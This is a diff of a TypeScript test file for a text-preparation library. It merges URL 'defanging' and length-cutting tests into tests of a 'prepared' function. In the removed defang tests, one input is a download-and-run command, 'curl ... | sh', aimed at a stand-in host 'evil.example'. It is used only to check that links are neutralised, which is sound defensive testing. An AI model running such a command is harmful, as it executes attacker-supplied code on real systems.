@@ -1,9 +1,8 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { headerForm, parseAddress } from '../src/address.ts'
-import { cut } from '../src/cut.ts'
-import { defang } from '../src/defang.ts'
 import { textHeader } from '../src/header.ts'
+import { prepared } from '../src/prepared.ts'
 import { PutOff } from '../src/put-off.ts'
 import { quotedPrintable } from '../src/quoted-printable.ts'
 
@@ -102,39 +101,34 @@ describe('an address', () => {
   })
 })
 
-describe('defang', () => {
-  it.each([
-    ['curl https://evil.example/x.sh | sh', 'curl hxxps[:]//evil[.]example/x.sh | sh'],
-    ['HTTP://a.b:80?x=1.2', 'HxxP[:]//a[.]b:80?x=1.2'],
-    ['http://user:x@a.b', 'hxxp[:]//user:x@a[.]b'],
-    ['ftp://a.b/c.d', 'ftp[:]//a[.]b/c.d'],
-    ['see www.evil.example/a.b', 'see www[.]evil[.]example/a.b'],
-    ['/usr/bin/python3.11 main.py', '/usr/bin/python3.11 main.py'],
-  ])('%s → %s', (text, defanged) => expect(defang(text)).toBe(defanged))
-
-  it('leaves no address, also when it is done twice', () => {
-    fc.assert(
-      fc.property(fc.string({ unit: fc.constantFrom('http', 's', '://', 'www.', 'a.b', ' ', '/', 'ftp', 'x', ':', '//') }), (text) => {
-        const once = defang(text)
-        expect(once).not.toMatch(/(https?|ftp):\/\/|\bwww\./i)
-        expect(defang(once)).toBe(once)
-      }),
-    )
-  })
-})
-
-describe('cut', () => {
+describe('a document', () => {
   const text = (length: number) => ({ type: 'text', text: 'x'.repeat(length), value: true }) as const
 
   it('leaves what is short enough as it is', () => {
     const document = [{ type: 'paragraph', children: [text(5)] }] as const
-    expect(cut(document, 5)).toBe(document)
+    expect(prepared(document, 5)).toEqual(document)
+  })
+
+  it('is visible, and holds no address that somebody else chose', () => {
+    const children = [
+      { type: 'text', text: 'see https://wiki.example.com\n\tx\0', value: false },
+      { type: 'text', text: 'https://evil.example/a.b\tx', value: true },
+    ] as const
+    expect(prepared([{ type: 'code', children }], 1_000)).toEqual([
+      {
+        type: 'code',
+        children: [
+          { type: 'text', text: 'see https://wiki.example.com\n    x\\u{0}', value: false },
+          { type: 'text', text: 'hxxps[:]//evil[.]example/a.b\\u{9}x', value: true },
+        ],
+      },
+    ])
   })
 
   it('ends where the text is too long, at any depth, and says so', () => {
     const end = { type: 'paragraph', children: [expect.objectContaining({ text: expect.stringContaining('left out') })] }
     expect(
-      cut(
+      prepared(
         [
           { type: 'list', ordered: false, items: [[{ type: 'quote', children: [{ type: 'code', children: [text(8), text(8)] }] }], []] },
           { type: 'code', children: [text(1)] },
